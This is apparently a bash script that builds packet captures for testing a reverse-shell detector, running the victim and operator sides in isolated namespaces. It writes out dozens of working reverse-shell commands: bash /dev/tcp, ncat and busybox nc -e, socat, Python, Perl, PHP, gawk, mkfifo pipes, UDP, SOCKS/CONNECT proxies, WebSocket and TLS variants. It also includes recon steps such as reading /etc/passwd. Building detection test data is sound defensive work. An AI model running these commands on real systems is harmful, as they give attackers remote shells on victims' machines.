#!/usr/bin/env bash
# Captures of shells that connect out.  Usage: [OUTPUT-DIR [SCENARIO...]]
. "$(dirname "$0")/shells.sh"
DETECTOR=reverse-shell WEBSOCAT=${WEBSOCAT:-websocat}
LINES_=(typed 0.7 "${COMMANDS[@]}")
KEYS=(keyed 'uname -s' 'exit')
CALLS="import socket,os; s=socket.create_connection(('$OUT',4444)); [os.dup2(s.fileno(),n) for n in (0,1,2)]"

hit_bash_dev_tcp() { reverse "${LINES_[@]}" -- bash -c "bash --norc -i >& /dev/tcp/$OUT/4444 0>&1"; has_text 'no job control'; }
hit_ncat_exec() { reverse "${LINES_[@]}" -- ncat $OUT 4444 -e /bin/sh; has_text 'uid=0'; lacks "$(hex '# ')"; }
hit_ncat_sh_exec() { reverse "${LINES_[@]}" -- ncat $OUT 4444 --sh-exec 'sh -i 2>&1'; has_text 'job control turned off'; }
hit_socat() { reverse "${LINES_[@]}" -- socat TCP:$OUT:4444 EXEC:'/bin/sh',stderr; has_text 'uid=0'; }
hit_socat_pty() { reverse "${KEYS[@]}" -- socat TCP:$OUT:4444 EXEC:'bash --norc -i',pty,stderr,setsid,sigint,sane; has_text 'Linux'; }
hit_python_pty() { reverse "${KEYS[@]}" -- /usr/bin/python3 -c "$CALLS; import pty; pty.spawn('/bin/sh')"; has_text 'Linux'; }
hit_python_subprocess() { reverse "${LINES_[@]}" -- /usr/bin/python3 -c "$CALLS; import subprocess; subprocess.call(['/bin/sh','-i'])"; }
hit_perl() { reverse "${LINES_[@]}" -- perl -e "use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,inet_aton('$OUT')));open(STDIN,'>&S');open(STDOUT,'>&S');open(STDERR,'>&S');exec('/bin/sh -i');"; }
hit_php() { reverse "${LINES_[@]}" -- php -r "\$s=fsockopen('$OUT',4444);proc_open('/bin/sh -i',[\$s,\$s,\$s],\$p);sleep(6);"; }
hit_awk() { reverse "${LINES_[@]}" -- gawk "BEGIN{s=\"/inet/tcp/0/$OUT/4444\";for(;;){printf \"shell>\"|&s;if((s|&getline c)<=0)break;if(c==\"exit\")break;while((c|&getline)>0)print|&s;close(c)}}"; has_text 'shell>'; }
hit_busybox_nc() { reverse "${LINES_[@]}" -- busybox nc $OUT 4444 -e /bin/sh; has_text 'uid=0'; }
hit_mkfifo() {
    local pipe; pipe=$(mktemp -u)
    reverse "${LINES_[@]}" -- sh -c "mkfifo $pipe; sh -i <$pipe 2>&1 | nc.openbsd -q 1 $OUT 4444 >$pipe; rm -f $pipe"
}
hit_whoami_only() { reverse typed 0.7 whoami -- ncat $OUT 4444 -e /bin/sh; has_text 'root'; }
decorated() { # PROMPT : what a person who likes prompts has, in a terminal
    reverse keyed id 'uname -s' exit -- env LC_ALL=C.UTF-8 "PS1=$1" socat TCP:$OUT:4444 EXEC:'bash --norc -i',pty,stderr,setsid,sigint,sane
    has "$(printf '\033[?2004h' | od -An -tx1 | tr -d ' \n')"; has_text 'uid=0'
}
hit_prompt_kali() { decorated '┌──(\u㉿\h)-[\w]\n└─\$ '; }
hit_prompt_time() { decorated '\t \u@\h:\w\$ '; }
hit_prompt_venv() { decorated '(venv) [\u@\h:\w] {1} \$ '; }
hit_udp_socat() { datagrams "${LINES_[@]}" -- socat -T 5 UDP:$OUT:4444 EXEC:'bash --norc -i',stderr; has_datagram 'no job control'; has_datagram 'uid=0'; }
hit_udp_pty() { datagrams "${KEYS[@]}" -- socat -T 5 UDP:$OUT:4444 EXEC:'bash --norc -i',pty,stderr,setsid,sigint,sane; has_datagram 'Linux'; }
hit_udp_mkfifo() {
    local pipe; pipe=$(mktemp -u)
    datagrams "${LINES_[@]}" -- sh -c "mkfifo $pipe; sh -i <$pipe 2>&1 | nc.openbsd -u -w 5 $OUT 4444 >$pipe; rm -f $pipe"; has_datagram 'uid=0'
}

hit_snap96() {
    hit_bash_dev_tcp; editcap -F pcap -s 96 "$PCAP" "$W/snap"; mv "$W/snap" "$PCAP"
}
hit_midstream() { # begins behind the first answers
    hit_bash_dev_tcp; editcap -F pcap "$PCAP" "$W/mid" 1-12; mv "$W/mid" "$PCAP"
}
hit_socat_relay() { # rly passes it on: both legs are shells, and rly is a relay
    net_up; operator out 4444 "${LINES_[@]}"
    spawn rly socat TCP-LISTEN:443,fork TCP:$OUT:4444; up rly 443
    record in cli rly out; victim cli bash -c "bash --norc -i >& /dev/tcp/$RLY/443 0>&1"; save
}
hit_socks() { # a shell inside a SOCKS session
    net_up; operator out 4444 "${LINES_[@]}"; microsocks_up
    record in cli rly out; victim cli ncat --proxy $RLY:1080 --proxy-type socks5 $OUT 4444 -e '/bin/sh -i'; save
}
hit_connect() { # a shell inside CONNECT: of cli alone, not of the proxy, though both legs show it
    net_up; operator out 4444 "${LINES_[@]}"; tinyproxy_up rly $RLY 8888
    record in cli rly out
    victim cli sh -c "rm -f '$W/pipe'; mkfifo '$W/pipe'; /bin/sh -i <'$W/pipe' 2>&1 | nc.openbsd -X connect -x $RLY:8888 $OUT 4444 >'$W/pipe'"; save
}
hit_websocket() { # the side that opened the WebSocket is the one with the shell
    net_up; victim cli socat TCP-LISTEN:4000,bind=127.0.0.1 EXEC:'bash --norc -i',pty,stderr,setsid,sane & PIDS+=($!); up cli 4000
    (cd / && typed 0.7 "${COMMANDS[@]}" | timeout 30 ip netns exec "$P-out" "$WEBSOCAT" -E -b ws-l:0.0.0.0:4444 - >/dev/null 2>&1) & PIDS+=($!); up out 4444
    record in cli out; on cli timeout 20 "$WEBSOCAT" -E -b ws://$OUT:4444/ tcp:127.0.0.1:4000 || true; save
}
hit_stage() { # a program's length, then a library that loads itself; nothing of it but the header is real
    net_up; operator out 4444 /usr/bin/python3 -c \
        "import sys,time,os;b=b'MZARUH\\x89\\xe5'+os.urandom(3000);time.sleep(1);sys.stdout.buffer.write(len(b).to_bytes(4,'little')+b)"
    record in cli out; victim cli sh -c "timeout 3 nc.openbsd -d $OUT 4444"; save
}
secret() { # FEEDER-SERVER WORDS... -- COMMAND... : the operator's program, and the shell's, both with TLS
    local server=(); while [ "$1" != -- ]; do server+=("$1"); shift; done; shift
    net_up; openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -days 3650 -subj /CN=out \
        -keyout "$W/key" -out "$W/crt" 2>/dev/null
    (cd / && pondered | timeout 60 ip netns exec "$P-out" "${server[@]//@/$W}" >/dev/null 2>&1) & PIDS+=($!); up out 4444
    record in cli out; victim cli "$@"; save; has ' 4444 1603'; lacks "$(hex 'uid=0')"
}
pondered() { # commands at the pace of somebody who reads the answers
    local line
    sleep 1
    for line in id 'uname -a' 'ls -l /etc/ssl' pwd 'cat /etc/passwd' 'ls /' 'cat /etc/issue' hostname 'ls -la /home' exit; do
        printf '%s\n' "$line"; sleep "$((1 + RANDOM % 3)).$((RANDOM % 9))"
    done
}
hit_ncat_ssl() { secret ncat --ssl --ssl-key @/key --ssl-cert @/crt -l 4444 -- ncat --ssl $OUT 4444 -e /bin/sh; }
hit_openssl_s_client() {
    local pipe; pipe=$(mktemp -u)
    secret openssl s_server -quiet -key @/key -cert @/crt -port 4444 -- \
        sh -c "mkfifo $pipe; sh -i <$pipe 2>&1 | openssl s_client -quiet -connect $OUT:4444 >$pipe 2>/dev/null; rm -f $pipe"
}
scenarios "$@"
